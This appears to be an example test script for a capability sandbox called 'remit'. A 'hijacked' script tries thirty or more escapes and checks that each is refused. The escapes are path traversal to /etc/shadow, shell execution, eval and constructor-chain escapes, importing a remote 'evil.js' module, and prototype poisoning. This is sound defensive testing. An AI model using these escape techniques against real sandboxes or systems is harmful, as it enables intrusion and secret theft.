// A hijacked script: it tries thirty ways to exceed its grants.
//
//   remit run examples/hijacked.ts                       then: remit audit --task hijacked --decision denied
//
// All thirty are calls through capabilities, the only path to the outside. Each is refused before it
// reaches a tool, and is recorded in the audit. Before that, the script tries ways that are not calls
// and so leave no record: it counts them itself, as `nothingThere`.

/** Ways out that are calls. The grants are so narrow that each must be refused. */
function ways(remit): [string, () => unknown][] {
  const { files, out, once, repo, programs, tasks } = remit;
  const list = files.attenuate({ methods: ["list"] });
  const past = files.attenuate({ until: "1ms" });
  const future = files.attenuate({ notBefore: "1h" });
  const others = files.attenuate({ audience: ["spiffe://home/default/client/somebody"] });
  const last = files.attenuate({ delegationDepth: 0 });
  return [
    // Methods that were not granted, and methods that do not exist.
    ["write where only reading is granted", () => files.write("hello.ts", "evil")],
    ["remove a file", () => files.remove("hello.ts")],
    ["make a folder", () => files.mkdir("lib/evil")],
    ["rewrite history", () => repo.commit({ message: "nothing to see here" })],
    ["run a program", () => programs.run("sh", ["-c", "id"])],
    ["a method that there is none of", () => files.exec("id")],
    ["a method of every object of the language", () => files.constructor("return process")],
    ["a method that the wire has and tools do not", () => files.describe()],

    // Paths.
    ["one folder up", () => files.read("../README.md")],
    ["many folders up", () => files.read("../../../../../../etc/shadow")],
    ["an absolute path", () => files.read("/etc/shadow")],
    ["down and up again", () => files.read("lib/../../../Cargo.toml")],
    ["a folder above as an object", () => files.dir("..")],
    ["beside the folder that the path must be in", () => files.read("hello.ts")],
    ["what only begins like that folder", () => files.read("library/markdown.ts")],
    ["an empty segment and a way up", () => files.read("lib//..//../remit.tools.toml")],
    ["no path at all", () => files.read()],
    ["a number for a path", () => files.read(7)],
    ["an object's name for a path", () => files.read({ path: { $object: "grant 1" } })],

    // Budgets.
    ["more than was granted in one call", () => out.write("lib/big", "x".repeat(5000))],
    ["a call more than was granted", () => once.list("lib")],

    // Attempts to widen authority.
    ["attenuate to more methods", () => files.attenuate({ methods: ["read", "write"] })],
    ["attenuate to more calls", () => files.attenuate({ calls: 1_000_000 })],
    ["attenuate by a word that means nothing", () => files.attenuate({ everything: true })],
    ["split off more than there is", () => once.split({ calls: 5 })],
    ["go back from the narrower to the wider", () => list.read("lib/markdown.ts")],

    // Time limits and audiences.
    ["use what has expired", () => past.list("lib")],
    ["use what is not good yet", () => future.list("lib")],
    ["use what is for somebody else", () => others.list("lib")],
    ["narrow what is not to be passed on", () => last.attenuate({ calls: 1 })],
  ];
}

const load = (name: string) => import(name);

/** Ways out that are not calls. A stub that only names a replacement throws. */
const elsewhere: [string, () => unknown][] = [
  ["fetch", () => globalThis["fetch"]("https://example.org")],
  ["process", () => globalThis["process"]],
  ["require", () => globalThis["require"]("fs")],
  ["Deno", () => globalThis["Deno"]],
  ["Bun", () => globalThis["Bun"]],
  ["std and os of the engine", () => globalThis["std"] ?? globalThis["os"]],
  ["a worker of its own", () => globalThis["Worker"]],
  ["WebAssembly", () => globalThis["WebAssembly"]],
  ["a timer", () => globalThis["setTimeout"](() => {}, 1)],
  ["memory that is shared", () => globalThis["SharedArrayBuffer"]],
  ["the global object of a function", () => new Function("return this")().process],
  ["the global object of an evaluation", () => (0, eval)("globalThis.require('fs')")],
  ["a constructor's constructor", () => [].constructor.constructor("return fetch('https://example.org')")()],
  ["a module of the system", () => load("fs")],
  ["a module from elsewhere", () => load("https://example.org/evil.js")],
  ["a file that was not submitted", () => load("../remit.tools.toml")],
];

export default async function (remit) {
  const nothingThere = await refusals(elsewhere);

  // Changes to the language's built-ins do not affect the requests that the mesh accepts.
  const poison = { configurable: true, get: () => 7 };
  for (const name of ["handle", "path"]) Object.defineProperty(Object.prototype, name, poison);
  Promise.prototype.then = undefined as never;
  Array.isArray = () => false;
  WeakMap.prototype.get = () => ({ handle: 0, grant: "files" });

  await remit.once.list("lib");
  const attempts = ways(remit);
  await remit.sleep(20);
  const refused = await refusals(attempts);

  if (refused.length !== attempts.length || nothingThere.length !== elsewhere.length) {
    const all = [...attempts, ...elsewhere].map(([name]) => name);
    const open = all.filter((name) => !refused.includes(name) && !nothingThere.includes(name));
    throw new Error(`a way out: ${open.join("; ")}`);
  }
  return { refused: refused.length, nothingThere: nothingThere.length };
}

/** The names of the ways that were refused or led to nothing. */
async function refusals(ways: [string, () => unknown][]): Promise<string[]> {
  const refused: string[] = [];
  for (const [name, way] of ways) {
    let found;
    try {
      found = await way();
    } catch (error) {
      console.log(`${name}: ${error.code ?? error.name}: ${error.message}`);
      refused.push(name);
      continue;
    }
    if (found === undefined) refused.push(name);
    else console.error(`${name}: a way out!`);
  }
  return refused;
}
